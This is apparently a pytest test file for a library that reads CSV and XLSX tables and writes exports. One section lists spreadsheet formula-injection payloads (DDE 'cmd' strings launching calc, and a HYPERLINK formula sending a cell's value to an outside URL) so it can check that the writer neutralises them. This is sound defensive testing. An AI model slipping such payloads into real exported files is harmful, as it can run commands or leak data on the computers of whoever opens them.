"""Reading CSV in the usual encodings and delimiters, and XLSX, with spreadsheet row numbers."""

from __future__ import annotations

import codecs
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook

from gmassist.lib.tabular import TabularError, read_table, write_csv, write_xlsx

ROWS = 'employee_no,full_name,department\nE1,张伟,研发部\nE2,"Li, Na",Sales\n'


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        (ROWS.encode("utf-8"), "utf-8"),
        (codecs.BOM_UTF8 + ROWS.encode("utf-8"), "utf-8-sig"),
        (ROWS.encode("utf-16"), "utf-16"),
        (ROWS.encode("gb18030"), "gb18030"),
        (ROWS.encode("gbk"), "gb18030"),
    ],
)
def test_it_reads_each_encoding(data, encoding):
    table = read_table(data)
    assert table.encoding == encoding
    assert table.header == ["employee_no", "full_name", "department"]
    assert table.rows == [(2, ["E1", "张伟", "研发部"]), (3, ["E2", "Li, Na", "Sales"])]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_it_detects_the_delimiter(delimiter):
    text = ROWS.replace(",", delimiter).replace(f'"Li{delimiter} Na"', '"Li, Na"')
    table = read_table(text.encode())
    assert table.delimiter == delimiter
    assert table.rows[1] == (3, ["E2", "Li, Na", "Sales"])


def test_it_reads_crlf_line_ends_and_skips_blank_rows():
    table = read_table(b"a,b\r\n1,2\r\n\r\n,\r\n3,4\r\n")
    assert table.rows == [(2, ["1", "2"]), (5, ["3", "4"])]


def test_it_pads_short_rows():
    assert read_table(b"a,b,c\n1\n").rows == [(2, ["1", "", ""])]


def test_it_trims_header_names():
    assert read_table(b" a , b\n1,2\n").header == ["a", "b"]


def test_it_rejects_an_empty_file():
    with pytest.raises(TabularError, match="empty"):
        read_table(b"")


def _xlsx(rows) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def test_it_reads_xlsx_with_typed_cells():
    data = _xlsx(
        [
            ["EmpID", "DOB", "Salary", "Score", None],
            [10101, dt.datetime(1983, 7, 10), 93046, 4.6],
            [None, None, None, None],
            ["10102", dt.datetime(1954, 9, 21), 250000.0, 5],
        ]
    )
    table = read_table(data)
    assert table.format == "xlsx"
    assert table.header == ["EmpID", "DOB", "Salary", "Score"]
    assert table.rows == [
        (2, [10101, dt.datetime(1983, 7, 10), 93046, 4.6]),
        (4, ["10102", dt.datetime(1954, 9, 21), 250000.0, 5]),
    ]


def test_it_writes_csv_with_a_bom_and_xlsx_that_read_back():
    rows = [["E1", "张伟", None]]
    out = io.BytesIO()
    assert write_csv(out, ["no", "name", "x"], iter(rows)) == 1
    assert out.getvalue().startswith(codecs.BOM_UTF8)
    assert read_table(out.getvalue()).rows == [(2, ["E1", "张伟", ""])]
    out = io.BytesIO()
    assert write_xlsx(out, ["no", "name", "x"], iter(rows)) == 1
    assert read_table(out.getvalue()).rows == [(2, ["E1", "张伟", None])]


# --- the export writer: formulas neutralised, any value written --------------------------------

FORMULAS = [
    '=HYPERLINK("http://x/?"&B2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "=",
]
HARMLESS = ["Grace", "-5", "+1.5", "-.5", "1e3", "a=b", "", "'quoted"]


def _csv_cells(data: bytes) -> list[list[str]]:
    import csv

    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_cells(data: bytes):
    from openpyxl import load_workbook

    return list(load_workbook(io.BytesIO(data)).active.iter_rows())


@pytest.mark.parametrize("text", FORMULAS)
def test_it_neutralises_a_formula_in_a_csv_cell_and_a_header(text):
    out = io.BytesIO()
    write_csv(out, [text], iter([[text]]))
    assert _csv_cells(out.getvalue()) == [["'" + text], ["'" + text]]


@pytest.mark.parametrize("text", HARMLESS)
def test_it_leaves_plain_text_and_numbers_alone_in_csv(text):
    out = io.BytesIO()
    write_csv(out, ["h"], iter([[text]]))
    assert _csv_cells(out.getvalue())[1] == [text]


@pytest.mark.parametrize("text", FORMULAS)
def test_it_writes_a_formula_as_quoted_text_in_xlsx(text):
    out = io.BytesIO()
    write_xlsx(out, [text], iter([[text]]))
    for row in _xlsx_cells(out.getvalue()):
        (cell,) = row
        # (XML reads a carriage return back as a line feed)
        expected = text.replace("\r", "\n")
        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)


def test_it_writes_an_error_code_as_text_in_xlsx():
    out = io.BytesIO()
    write_xlsx(out, ["h"], iter([["#N/A"]]))
    cell = _xlsx_cells(out.getvalue())[1][0]
    assert (cell.value, cell.data_type) == ("#N/A", "s")


def test_it_reads_back_a_neutralised_csv_cell_as_the_text_itself():
    from gmassist.lib.tabular import neutralise_formula, unescape_formula

    for text in FORMULAS + HARMLESS:
        assert unescape_formula(neutralise_formula(text)) == text


class _Lazy:
    """Like a lazy translation: not a str, but has one."""

    def __str__(self) -> str:
        return "Title"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_writes_any_value_a_page_may_give(fmt):
    from gmassist.lib.tabular import write_table

    shanghai = dt.timezone(dt.timedelta(hours=8))
    row = [
        {"b": "=1+1", "a": [1, "x"]},
        dt.datetime(2026, 1, 2, 3, 4, tzinfo=dt.UTC),
        dt.date(2026, 1, 2),
        Decimal("1200.00"),
        True,
        None,
        "bell\x07and\x00nul",
    ]
    out = io.BytesIO()
    assert write_table(out, fmt, [_Lazy(), "b", "c", "d", "e", "f", "g"], iter([row]), tz=shanghai)
    if fmt == "csv":
        assert _csv_cells(out.getvalue()) == [
            ["Title", "b", "c", "d", "e", "f", "g"],
            [
                '{"a": [1, "x"], "b": "=1+1"}',
                "2026-01-02T11:04:00",
                "2026-01-02",
                "1200",
                "True",
                "",
                "bell\x07and\x00nul",
            ],
        ]
    else:
        header, cells = ([c.value for c in r] for r in _xlsx_cells(out.getvalue()))
        assert header == ["Title", "b", "c", "d", "e", "f", "g"]
        assert cells == [
            '{"a": [1, "x"], "b": "=1+1"}',
            dt.datetime(2026, 1, 2, 11, 4),
            dt.datetime(2026, 1, 2),
            1200,
            True,
            None,
            "bell\ufffdand\ufffdnul",
        ]


def test_it_cuts_an_xlsx_cell_at_excels_limit():
    out = io.BytesIO()
    write_xlsx(out, ["h"], iter([["x" * 40_000]]))
    value = _xlsx_cells(out.getvalue())[1][0].value
    assert (len(value), value[-1]) == (32_767, "\u2026")
